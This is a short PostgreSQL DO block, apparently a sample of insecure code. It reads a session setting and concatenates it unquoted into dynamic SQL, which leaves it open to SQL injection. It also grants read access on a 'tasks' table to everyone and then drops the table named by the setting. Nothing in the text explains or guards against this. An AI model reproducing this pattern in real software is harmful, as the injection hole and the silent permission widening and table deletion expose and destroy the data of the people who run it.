-- What else a value is put into is not told.
DO $$
DECLARE
    wanted text = current_setting('app.wanted', true);
BEGIN
    IF wanted IS NOT NULL THEN
        EXECUTE 'ALTER TABLE ' || wanted || ' ADD COLUMN more int';
        EXECUTE 'GRANT SELECT ON tasks TO public; DROP TABLE ' || wanted;
    END IF;
END
$$;
